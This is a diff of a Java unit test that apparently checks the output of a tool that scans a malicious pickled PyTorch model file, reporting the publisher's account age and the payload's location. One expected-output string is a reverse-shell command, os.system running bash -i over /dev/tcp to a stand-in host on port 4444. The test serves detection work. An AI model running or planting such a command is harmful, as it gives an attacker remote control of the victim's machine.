@@ -28,7 +28,8 @@ class DemoCommandTest {
     assertThat(out.lines()).hasSizeLessThanOrEqualTo(40);
     assertThat(out)
         .contains("1 edit from " + DemoModels.GENUINE)
-        .contains("an account of 11 days")
+        .containsPattern("who +qa-tutorials .*an organisation; account of [-0-9]+; 1 model\\.")
+        .contains("The publisher has been known for 11 days only")
         .contains("pytorch_model.bin!archive/data.pkl, byte 86")
         .contains(
             "os.system(\"bash -c 'bash -i >& /dev/tcp/shell.qa-tutorials.invalid/4444 0>&1'\")")
